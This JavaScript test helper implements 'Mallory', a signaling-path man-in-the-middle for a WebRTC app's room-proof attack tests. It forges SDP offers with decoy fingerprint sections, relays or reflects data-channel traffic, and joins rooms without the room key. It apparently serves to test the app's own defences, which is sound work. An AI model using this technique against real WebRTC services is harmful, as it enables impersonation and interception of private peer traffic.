// Mallory, an attacker on the signaling path, for the room-proof attack tests (room_attacks.test.mjs).
//
// She holds real DTLS sessions of her own with each victim (RTCPeerConnections in a page of her
// own) and forges the SDP she hands them: a decoy m-section, placed before the live application
// section, carries a fingerprint the victim expects (the other victim's, or the victim's own) while
// the live section carries her certificate's. A check that hashes the first a=fingerprint of the
// SDP text then binds the proof to the decoy, not to the certificate DTLS really uses.
//
// Each victim's fingerprint only shows in the SDP it sends. In a bridge, Bob (the newcomer) offers
// first, which shows his; Alice's shows in her answer to Mallory's offer; Bob then gets an offer
// too and, as the polite side, rolls his own back. Alone with Alice, Mallory offers with a
// placeholder decoy (her own fingerprint), learns Alice's from the answer and re-offers. She holds
// every ICE candidate (both ways) until the last offer is answered, so no data channel opens, and
// no proof is made, before the forged description is the current one.
// Every message on every data channel is recorded; in a bridge it is passed on unchanged to the
// other victim, in a reflection a proof is sent straight back to its sender.
import { randomBytes } from 'node:crypto';
import WebSocket from 'ws';

// Decoy layouts, each checked in Chromium 156 (see the report in room_attacks.test.mjs):
//   rejected: a rejected audio section (port 0, outside BUNDLE). The answerer rejects it too.
//   bundleMember: an audio section in the offer's BUNDLE group, after the live section's mid (so
//     not the BUNDLE tag), with a codec nobody supports: the answerer drops it from the group.
//   outsideBundle: an active audio section outside BUNDLE, same codec trick, also dropped.
// A BUNDLE member that comes first in the text and is accepted becomes Chromium's BUNDLE transport
// (its answer lists it first), so its fingerprint is the one DTLS checks: the connection fails.
export const LAYOUTS = ['rejected', 'bundleMember', 'outsideBundle'];

const EOL = '\r\n';

function sections(sdp) {
  const out = [[]];
  for (const line of sdp.split(/\r?\n/).filter(Boolean)) {
    if (line.startsWith('m=')) out.push([]);
    out.at(-1).push(line);
  }
  return out; // [session lines, media section lines, ...]
}

const join = (parts) => parts.flat().join(EOL) + EOL;
const attr = (lines, name) => lines.find((l) => l.startsWith(`a=${name}:`))?.slice(name.length + 3) ?? null;

export function fingerprintOf(sdp, mid = null) {
  const media = sections(sdp).slice(1);
  const section = mid === null ? media[0] : media.find((s) => attr(s, 'mid') === mid);
  return section ? attr(section, 'fingerprint') : null;
}

// Mallory's own offer with a decoy section in front of the live one, carrying `decoyFingerprint`.
// `version` bumps the o= line for a re-offer.
export function forgeOffer(ownOffer, layout, decoyFingerprint, version = 0) {
  if (!LAYOUTS.includes(layout)) throw new Error(`unknown layout ${layout}`);
  const [session, live, ...rest] = sections(ownOffer);
  if (!live || rest.length) throw new Error('expected an offer with exactly one (data channel) section');
  const liveMid = attr(live, 'mid');
  const decoyMid = liveMid === '1' ? '2' : '1';
  const head = session.map((line) => {
    if (line.startsWith('o='))
      return line.replace(/^o=(\S+) (\S+) (\d+)/, (_, u, id, v) => `o=${u} ${id} ${BigInt(v) + BigInt(version)}`);
    if (line.startsWith('a=group:BUNDLE') && layout === 'bundleMember') return `a=group:BUNDLE ${liveMid} ${decoyMid}`;
    return line;
  });
  const port = layout === 'rejected' ? 0 : 9;
  // A payload type with a codec Chromium does not know, so the answerer rejects the section.
  const [pt, codec] = layout === 'rejected' ? [111, 'opus/48000/2'] : [96, 'x-unsupported/8000'];
  const decoy = [
    `m=audio ${port} UDP/TLS/RTP/SAVPF ${pt}`,
    'c=IN IP4 0.0.0.0',
    `a=ice-ufrag:${attr(live, 'ice-ufrag')}`,
    `a=ice-pwd:${attr(live, 'ice-pwd')}`,
    `a=fingerprint:${decoyFingerprint}`,
    'a=setup:actpass',
    `a=mid:${decoyMid}`,
    'a=inactive',
    'a=rtcp-mux',
    `a=rtpmap:${pt} ${codec}`,
  ];
  return { sdp: join([head, decoy, live]), liveMid, liveIndex: 1, decoyMid };
}

// A victim's answer to a forged offer, made to fit Mallory's own offer again: the decoy's section
// goes, and so does its mid in the BUNDLE group.
export function unforgeAnswer(answer, decoyMid) {
  const [session, ...media] = sections(answer);
  const head = session.map((line) =>
    line.startsWith('a=group:BUNDLE')
      ? line
          .split(' ')
          .filter((t) => t !== decoyMid)
          .join(' ')
      : line,
  );
  return join([head, ...media.filter((s) => attr(s, 'mid') !== decoyMid)]);
}

// ---- Mallory's page ----

// Runs in Mallory's page (serialised by page.evaluate): her connections, the bridge or the
// reflection, the held candidates, the record of every data channel message.
function inPage() {
  const sides = {};
  const early = { A: [], B: [] }; // candidates that came before Mallory's connection to that side
  const record = [];
  const other = { A: 'B', B: 'A' };
  const toBase64 = (buffer) => {
    const bytes = new Uint8Array(buffer);
    let text = '';
    for (let i = 0; i < bytes.length; i += 0x8000) text += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
    return btoa(text);
  };
  const isProof = (data) => {
    try {
      return typeof data === 'string' && JSON.parse(data)?.type === 'proof';
    } catch {
      return false;
    }
  };
  const toVictim = (s, c) => ({ ...c, sdpMid: s.liveMid, sdpMLineIndex: s.liveIndex });
  const toMallory = (s, c) => ({ ...c, sdpMid: s.ownMid, sdpMLineIndex: 0 });
  window.mallory = {
    record,
    // mode: 'bridge' (pass every message to the other side) or 'reflect' (send proofs back).
    async open(side, mode) {
      const pc = new RTCPeerConnection({ iceServers: [] });
      const s = {
        pc,
        mode,
        channels: {},
        pending: { app: [], transfer: [] },
        local: [],
        remote: early[side],
        released: false,
      };
      sides[side] = s;
      pc.onicecandidate = ({ candidate }) => {
        if (!candidate) return;
        if (s.released) window.malloryOut(side, { candidate: toVictim(s, candidate.toJSON()) });
        else s.local.push(candidate.toJSON());
      };
      for (const [label, id] of [
        ['app', 0],
        ['transfer', 1],
      ]) {
        const ch = pc.createDataChannel(label, { negotiated: true, id, ordered: true });
        ch.binaryType = 'arraybuffer';
        s.channels[label] = ch;
        ch.onmessage = ({ data }) => {
          record.push(
            typeof data === 'string'
              ? { side, label, kind: 'text', text: data }
              : { side, label, kind: 'binary', base64: toBase64(data) },
          );
          if (mode === 'reflect') {
            if (label === 'app' && isProof(data)) ch.send(data);
            return;
          }
          const peer = sides[other[side]];
          const out = peer?.channels[label];
          if (out?.readyState === 'open') out.send(data);
          else if (peer) peer.pending[label].push(data);
        };
        ch.onopen = () => {
          for (const data of s.pending[label].splice(0)) ch.send(data);
        };
      }
      await pc.setLocalDescription();
      return pc.localDescription.sdp;
    },
    setForged(side, { liveMid, liveIndex }, ownMid) {
      Object.assign(sides[side], { liveMid, liveIndex, ownMid });
    },
    async answered(side, sdp) {
      await sides[side].pc.setRemoteDescription({ type: 'answer', sdp });
    },
    async remoteCandidate(side, candidate) {
      const s = sides[side];
      if (!s?.released) return (s?.remote ?? early[side]).push(candidate);
      await s.pc.addIceCandidate(toMallory(s, candidate)).catch(() => {});
    },
    // From now on candidates flow both ways.
    async release(side) {
      const s = sides[side];
      s.released = true;
      for (const c of s.local.splice(0)) window.malloryOut(side, { candidate: toVictim(s, c) });
      for (const c of s.remote.splice(0)) await s.pc.addIceCandidate(toMallory(s, c)).catch(() => {});
    },
    states() {
      return Object.fromEntries(Object.entries(sides).map(([side, s]) => [side, s.pc.connectionState]));
    },
    // Whether Chromium itself takes an SDP as a remote offer and answers it (a fresh connection
    // with the app's two negotiated channels): true, or the error's message.
    async chromiumAccepts(sdp) {
      const pc = new RTCPeerConnection({ iceServers: [] });
      pc.createDataChannel('app', { negotiated: true, id: 0 });
      pc.createDataChannel('transfer', { negotiated: true, id: 1 });
      try {
        await pc.setRemoteDescription({ type: 'offer', sdp });
        await pc.setLocalDescription();
        return true;
      } catch (error) {
        return error.message;
      } finally {
        pc.close();
      }
    },
  };
}

// A queue of the descriptions a victim sent Mallory, taken in order.
class Inbox {
  constructor() {
    this.items = [];
    this.waiters = [];
  }

  push(item) {
    const waiter = this.waiters.shift();
    if (waiter) waiter(item);
    else this.items.push(item);
  }

  // The next description, or null after `timeout` ms.
  next(timeout = Infinity) {
    if (this.items.length) return Promise.resolve(this.items.shift());
    return new Promise((resolve) => {
      const waiter = (item) => {
        clearTimeout(timer);
        resolve(item);
      };
      const timer = Number.isFinite(timeout)
        ? setTimeout(() => {
            this.waiters.splice(this.waiters.indexOf(waiter), 1);
            resolve(null);
          }, timeout).unref()
        : null;
      this.waiters.push(waiter);
    });
  }
}

// How long Mallory waits for a victim's answer before she goes on without its fingerprint (a
// victim that refuses the forged SDP never answers; the other victim is still attacked).
const ANSWER_WAIT_MS = 5000;

// A certificate fingerprint of nobody, for a decoy when the real one could not be learnt.
function fingerprintOfNobody() {
  return `sha-256 ${Array.from(randomBytes(32), (b) => b.toString(16).padStart(2, '0').toUpperCase()).join(':')}`;
}

// Mallory: a context and page of her own in `browser`. `out(side, data)` is set by the attack
// to deliver her signals ('A' = towards Alice, 'B' = towards Bob).
async function newMallory(browser) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const logs = [];
  page.on('console', (m) => logs.push(m.text()));
  page.on('pageerror', (e) => logs.push(`pageerror: ${e.message}`));
  const mallory = {
    context,
    page,
    logs,
    steps: [], // how far the attack got, for failure messages
    errors: [],
    forged: [], // every offer she sent, for the Chromium check
    inbox: { A: new Inbox(), B: new Inbox() },
    out: null,
    closed: false,
    close: async () => {
      mallory.closed = true;
      await context.close();
    },
  };
  await page.exposeFunction('malloryOut', (side, data) => mallory.out(side, { gen: 0, ...data }));
  await page.evaluate(inPage);
  return mallory;
}

// A signal from a victim (side 'A' or 'B'): candidates go to her page, descriptions to her inbox.
function fromVictim(mallory, side, data) {
  if (data?.candidate) {
    mallory.page
      .evaluate(([s, c]) => window.mallory.remoteCandidate(s, c), [side, data.candidate])
      .catch((e) => mallory.closed || mallory.errors.push(e.message));
  } else if (data?.description) {
    mallory.inbox[side].push(data.description);
  }
}

async function nextAnswer(mallory, side, timeout) {
  for (;;) {
    const description = await mallory.inbox[side].next(timeout);
    if (!description || description.type === 'answer') return description;
  }
}

// Mallory's connection to one victim: made, offered with a decoy carrying `decoyFingerprint`
// (her own when null: a placeholder), and answered. Returns the victim's fingerprint, or null if
// it did not answer within `timeout`.
async function offerTo(mallory, side, { mode, layout, decoyFingerprint = null, timeout = Infinity }) {
  const { page } = mallory;
  const own = await page.evaluate(([s, m]) => window.mallory.open(s, m), [side, mode]);
  const forged = forgeOffer(own, layout, decoyFingerprint ?? fingerprintOf(own));
  await page.evaluate(
    ([s, f]) => window.mallory.setForged(s, f, f.liveMid),
    [side, { liveMid: forged.liveMid, liveIndex: forged.liveIndex }],
  );
  mallory[side] = { own, layout, version: 0 };
  mallory.forged.push(forged.sdp);
  mallory.out(side, { description: { type: 'offer', sdp: forged.sdp } });
  mallory.steps.push(`offered ${side}`);
  const answer = await nextAnswer(mallory, side, timeout);
  if (!answer) {
    mallory.steps.push(`no answer from ${side}`);
    return null;
  }
  mallory.steps.push(`answer from ${side}`);
  await page.evaluate(
    ([s, sdp]) => window.mallory.answered(s, sdp),
    [side, unforgeAnswer(answer.sdp, forged.decoyMid)],
  );
  return fingerprintOf(answer.sdp, forged.liveMid);
}

// A re-offer to a victim whose decoy now carries `decoyFingerprint`; Mallory's own connection is
// not renegotiated (the victim's answer is only awaited, then dropped).
async function reoffer(mallory, side, decoyFingerprint) {
  const v = mallory[side];
  v.version += 1;
  const forged = forgeOffer(v.own, v.layout, decoyFingerprint, v.version);
  mallory.forged.push(forged.sdp);
  mallory.out(side, { description: { type: 'offer', sdp: forged.sdp } });
  mallory.steps.push(`re-offered ${side}`);
  if (await nextAnswer(mallory, side, ANSWER_WAIT_MS)) mallory.steps.push(`re-answer from ${side}`);
  else mallory.steps.push(`no re-answer from ${side}`);
}

async function release(mallory, ...sides) {
  for (const side of sides) await mallory.page.evaluate((s) => window.mallory.release(s), side);
  mallory.steps.push('candidates released');
}

function run(mallory, attack) {
  mallory.done = attack().catch((e) => mallory.closed || mallory.errors.push(e.stack ?? String(e)));
}

// The id under which Bob is shown the first peer of the room ("Alice"): larger than any real
// peer id, so Bob is always the polite side of perfect negotiation.
const ALICE_ALIAS = 'z'.repeat(16);

// Bob's signaling WebSocket goes through `handlers` (call before Bob opens the room link); Bob
// sees the first peer already in the room ("Alice") under ALICE_ALIAS.
//   fromBob(data) / fromAlice(data): a signal between Bob and Alice
// Returns {toBob(data), toAlice(data)} to send signals as if from the other one.
export async function interceptBob(bob, handlers) {
  let alice = null;
  const link = { toBob: null, toAlice: null };
  await bob.page.routeWebSocket(/\/ws$/, (ws) => {
    const server = ws.connectToServer();
    link.toAlice = (data) => server.send(JSON.stringify({ v: 1, type: 'signal', to: alice, data }));
    link.toBob = (data) => ws.send(JSON.stringify({ v: 1, type: 'signal', from: ALICE_ALIAS, data }));
    ws.onMessage((text) => {
      const msg = JSON.parse(String(text));
      if (msg.type === 'signal' && msg.to === ALICE_ALIAS) return handlers.fromBob(msg.data);
      server.send(text);
    });
    server.onMessage((text) => {
      const msg = JSON.parse(String(text));
      if (msg.type === 'joined' && msg.peers?.length) {
        alice = msg.peers[0].id;
        msg.peers[0].id = ALICE_ALIAS;
        return ws.send(JSON.stringify(msg));
      }
      if (msg.type === 'signal' && alice && msg.from === alice) return handlers.fromAlice(msg.data);
      if (msg.type === 'peer-left' && alice && msg.peer === alice)
        return ws.send(JSON.stringify({ ...msg, peer: ALICE_ALIAS }));
      ws.send(text);
    });
  });
  return link;
}

// A relay that passes every signal between Bob and Alice unchanged, keeping a copy (the positive
// control: the interception itself does not break an honest pair).
export async function forwardingRelay(bob) {
  const seen = [];
  const link = await interceptBob(bob, {
    fromBob: (data) => {
      seen.push({ from: 'Bob', data });
      link.toAlice(data);
    },
    fromAlice: (data) => {
      seen.push({ from: 'Alice', data });
      link.toBob(data);
    },
  });
  return seen;
}

// Two victims bridged through Mallory, each sent one forged offer. Bob, the newcomer, offers
// first: his offer shows his fingerprint and is never answered. Mallory offers to Alice "from
// Bob" with Bob's fingerprint in the decoy; Alice's answer shows hers; Mallory then offers to Bob
// "from Alice" with it. Bob, who is polite, rolls his own offer back for hers. Call before Bob
// opens the room link.
export async function bridge(browser, bob, layout) {
  const mallory = await newMallory(browser);
  const link = await interceptBob(bob, {
    fromBob: (data) => fromVictim(mallory, 'B', data),
    fromAlice: (data) => fromVictim(mallory, 'A', data),
  });
  mallory.out = (side, data) => (side === 'A' ? link.toAlice(data) : link.toBob(data));
  run(mallory, async () => {
    const bobOffer = await mallory.inbox.B.next();
    mallory.steps.push(`offer from B`);
    const bobFingerprint = fingerprintOf(bobOffer.sdp);
    const aliceFingerprint = await offerTo(mallory, 'A', {
      mode: 'bridge',
      layout,
      decoyFingerprint: bobFingerprint,
      timeout: ANSWER_WAIT_MS,
    });
    await offerTo(mallory, 'B', {
      mode: 'bridge',
      layout,
      decoyFingerprint: aliceFingerprint ?? fingerprintOfNobody(),
      timeout: ANSWER_WAIT_MS,
    });
    await release(mallory, 'A', 'B');
  });
  return mallory;
}

// One victim, Alice, reflected: Mallory joins Alice's room through the real server without the
// room key (a plain WebSocket, as any client can), offers with a placeholder decoy, learns Alice's
// fingerprint from her answer, re-offers with it in the decoy and sends Alice's proof back to her
// on the app channel.
export async function reflect(browser, origin, roomId, layout = 'rejected') {
  const mallory = await newMallory(browser);
  const socket = new WebSocket(`${origin.replace(/^http/, 'ws')}/ws`, { origin });
  let aliceId = null;
  const send = (msg) => socket.send(JSON.stringify({ v: 1, ...msg }));
  mallory.out = (_side, data) => send({ type: 'signal', to: aliceId, data });
  const closeMallory = mallory.close;
  mallory.close = async () => {
    socket.close();
    await closeMallory();
  };
  const joined = new Promise((resolve, reject) => {
    socket.on('error', reject);
    socket.on('message', (text) => {
      const msg = JSON.parse(String(text));
      if (msg.type === 'welcome') send({ type: 'join', room: roomId, name: 'Mallory' });
      else if (msg.type === 'joined') {
        aliceId = msg.peers[0]?.id ?? null;
        resolve(msg);
      } else if (msg.type === 'error') reject(new Error(`signaling error ${msg.code}`));
      else if (msg.type === 'signal' && msg.from === aliceId) fromVictim(mallory, 'A', msg.data);
    });
  });
  const msg = await joined;
  if (!aliceId) throw new Error(`Mallory found nobody in the room: ${JSON.stringify(msg)}`);
  mallory.steps.push('joined the room without its key');
  run(mallory, async () => {
    const aliceFingerprint = await offerTo(mallory, 'A', { mode: 'reflect', layout });
    await reoffer(mallory, 'A', aliceFingerprint);
    await release(mallory, 'A');
  });
  return mallory;
}

// What Mallory's data channels carried, and her connections' states.
export async function recordOf(mallory) {
  return mallory.page.evaluate(() => window.mallory.record.slice());
}

export async function statesOf(mallory) {
  return mallory.page.evaluate(() => window.mallory.states()).catch((e) => ({ error: e.message }));
}

export async function chromiumAccepts(mallory, sdp) {
  return mallory.page.evaluate((s) => window.mallory.chromiumAccepts(s), sdp);
}
